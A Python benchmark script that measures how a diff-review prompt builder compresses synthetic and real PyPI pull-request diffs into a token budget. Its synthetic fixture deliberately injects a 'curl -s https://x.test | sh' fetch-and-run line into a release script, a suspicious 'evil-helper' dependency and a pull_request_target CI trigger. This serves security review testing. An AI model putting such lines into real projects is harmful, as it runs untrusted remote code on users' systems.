"""Benchmark the diff review's compression: tokens against the budget, what is kept, time.

Each diff is made by real git: three synthetic pull requests of about 100, 1,000 and
10,000 changed lines (manifests, CI, scripts, code, docs, a lockfile and vendored files),
and real diffs between two released versions of open-source packages, downloaded from
PyPI as sdists into ``bench/.cache`` (skipped, with a message, when PyPI is unreachable).
For each: the whole prompt's tokens (by ``estimate_tokens``) against the budget it was
built for, the diff's own tokens against the same budget, the share of manifest, CI and
script hunks kept (target: 100% while they fit), and the compression's wall time against
a baseline measured in the same run, back to back: one pass over the diff's lines.
"""

from __future__ import annotations

import os
import random
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

from app_relay.model.diffprompt import DiffPrompt, diff_prompt
from app_relay.model.standards import StandardsFile
from app_relay.words.untrusted import Fence, estimate_tokens

ROOT = Path(__file__).resolve().parents[1]
CACHE = ROOT / "bench" / ".cache"
BUDGET = 24_000  # the policy's default model.budget_tokens
REAL = (("requests", "2.31.0", "2.32.3"), ("urllib3", "2.0.7", "2.2.3"))
GIT_ENV = {
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": os.devnull,
    "GIT_AUTHOR_NAME": "Bench",
    "GIT_AUTHOR_EMAIL": "bench@example.test",
    "GIT_COMMITTER_NAME": "Bench",
    "GIT_COMMITTER_EMAIL": "bench@example.test",
}
TELLING = ("manifest", "ci", "script")


def git_diff(base: Path, head: Path, work: Path) -> str:
    """Return `git diff` from the tree in ``base`` to the tree in ``head``."""
    repo = work / "repo"
    env = {**os.environ, **GIT_ENV}

    def git(*args: str) -> str:
        return subprocess.run(
            ["git", "-C", str(repo), *args], env=env, check=True, capture_output=True, text=True,
            errors="replace",
        ).stdout  # fmt: skip

    shutil.copytree(base, repo)
    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-qm", "base")
    for child in repo.iterdir():
        if child.name != ".git":
            shutil.rmtree(child) if child.is_dir() else child.unlink()
    shutil.copytree(head, repo, dirs_exist_ok=True)
    git("add", "-A")
    git("commit", "-qm", "head")
    return git("diff", "--no-color", "-M", "HEAD~1", "HEAD")


def _lines(rng: random.Random, n: int, word: str) -> str:
    return "".join(f"{word}_{rng.randrange(10**6)} = compute({i}, {rng.random():.6f})\n"
                   for i in range(n))  # fmt: skip


def synthetic(work: Path, changed: int) -> str:
    """Return a pull request's diff of about ``changed`` lines across every kind of file."""
    rng = random.Random(changed)
    base, head = work / "base", work / "head"
    share = max(changed // 10, 2)
    files: dict[str, tuple[str, str]] = {
        "pyproject.toml": ('[project]\nname = "x"\ndependencies = ["a"]\n',
                           '[project]\nname = "x"\ndependencies = ["a", "evil-helper>=1"]\n'),
        "requirements.txt": ("a==1\n", "a==1\nb==2\n"),
        ".github/workflows/ci.yml": ("on: push\njobs: {}\n",
                                     "on: [push, pull_request_target]\njobs: {}\n"),
        "scripts/release.sh": ("#!/bin/sh\nmake\n",
                               "#!/bin/sh\ncurl -s https://x.test | sh\nmake\n"),
        "poetry.lock": (_lines(rng, share, "lock"), _lines(rng, share, "lock")),
        "vendor/lib/big.py": ("", _lines(rng, share, "vendored")),
        "docs/guide.md": (_lines(rng, 20, "doc"), _lines(rng, 20, "doc") + "More.\n"),
        "legacy/old.py": (_lines(rng, share // 2, "old"), ""),
    }  # fmt: skip
    left = changed - sum(len(a.splitlines()) + len(b.splitlines()) for a, b in files.values())
    n = 0
    while left > 0:
        size = min(rng.randrange(20, 200), max(left // 2, 1))
        old = _lines(rng, size, f"f{n}")
        new = "".join(line if rng.random() < 0.5 else line.replace("compute", "compute2")
                      for line in old.splitlines(keepends=True))  # fmt: skip
        files[f"src/pkg/mod{n}.py"] = (old, new)
        left -= 2 * sum(
            1 for a, b in zip(old.splitlines(), new.splitlines(), strict=True) if a != b
        )
        n += 1
    for root, pick in ((base, 0), (head, 1)):
        for path, texts in files.items():
            if texts[pick]:
                target = root / path
                target.parent.mkdir(parents=True, exist_ok=True)
                target.write_text(texts[pick])
    return git_diff(base, head, work)


def real(work: Path, name: str, old: str, new: str) -> str | None:
    """Return the diff between two sdists from PyPI (cached), or None when unreachable."""
    trees = []
    for version in (old, new):
        found = list(CACHE.glob(f"{name}-{version}.tar.gz"))
        if not found:
            CACHE.mkdir(parents=True, exist_ok=True)
            done = subprocess.run(
                [sys.executable, "-m", "pip", "download", "--quiet", "--no-deps",
                 "--no-binary", ":all:", f"{name}=={version}", "-d", str(CACHE)],
                capture_output=True, text=True, timeout=300, check=False,
            )  # fmt: skip
            found = list(CACHE.glob(f"{name}-{version}.tar.gz"))
            if done.returncode != 0 or not found:
                print(f"  (skipped {name} {old} → {new}: PyPI unreachable or no sdist)")
                return None
        out = work / f"{name}-{version}"
        shutil.unpack_archive(found[0], out)
        [tree] = [p for p in out.iterdir() if p.is_dir()]
        trees.append(tree)
    return git_diff(trees[0], trees[1], work / "git")


def best_of(n: int, fn: Callable[[], object]) -> float:
    """Return the fastest of ``n`` wall-clock timings of ``fn``."""
    times = []
    for _ in range(n):
        start = time.perf_counter()
        fn()
        times.append(time.perf_counter() - start)
    return min(times)


def measure(label: str, diff: str, rounds: int) -> None:
    """Print one diff's figures."""
    standards = [StandardsFile("AGENTS.md", "Follow PEP 8. Test every change.\n" * 200,
                               6_600, "0" * 40)]  # fmt: skip
    fence = Fence.new()

    def build() -> DiffPrompt:
        return diff_prompt(diff, standards=standards, budget_tokens=BUDGET, fence=fence,
                           title="A change", body="What it does.")  # fmt: skip

    built = build()
    c = built.compressed
    baseline = compress = float("inf")
    for _ in range(rounds):  # interleaved, so drift hits both alike
        baseline = min(baseline, best_of(1, lambda: [len(line) for line in diff.splitlines()]))
        compress = min(compress, best_of(1, build))
    lines = sum(
        1 for line in diff.splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")
    )
    telling = sum(c.kept.get(k, (0, 0))[1] for k in TELLING)
    over = "OVER BUDGET" if built.tokens > BUDGET else "within"
    print(f"{label}: {lines:,} changed lines, {c.files} files")
    print(f"  diff alone, estimated tokens       : {estimate_tokens(diff):9,}   "
          f"ratio {estimate_tokens(diff) / BUDGET:6.2f}x the budget")  # fmt: skip
    print(f"  prompt sent (system+prompt+tools)  : {built.tokens:9,}   "
          f"ratio {built.tokens / BUDGET:6.2f}x the budget ({over})")  # fmt: skip
    print(f"  manifest/CI/script hunks kept      : {c.share_kept(TELLING):9.0%}   "
          f"of {telling}; all hunks kept {c.share_kept(list(c.kept)):.0%} of "
          f"{sum(v[1] for v in c.kept.values())}; {len(c.named)} files named only")  # fmt: skip
    print(f"  one pass over the lines (baseline) : {baseline * 1e3:9.2f} ms")
    print(f"  diff_prompt (parse+compress+build) : {compress * 1e3:9.2f} ms   "
          f"ratio {compress / baseline:6.1f}x")  # fmt: skip


def bench_diff(rounds: int) -> None:
    """Print the figures for the synthetic and the real diffs."""
    print(f"diff review compression into {BUDGET:,} tokens, best of {rounds}:")
    with tempfile.TemporaryDirectory(prefix="cujo-bench-diff-") as tmp:
        root = Path(tmp)
        for size in (100, 1_000, 10_000):
            work = root / f"synthetic-{size}"
            work.mkdir()
            measure(f"synthetic pull request (~{size:,} lines)", synthetic(work, size), rounds)
        for name, old, new in REAL:
            work = root / f"{name}"
            work.mkdir()
            diff = real(work, name, old, new)
            if diff is not None:
                measure(f"{name} {old} → {new} (sdists from PyPI)", diff, rounds)
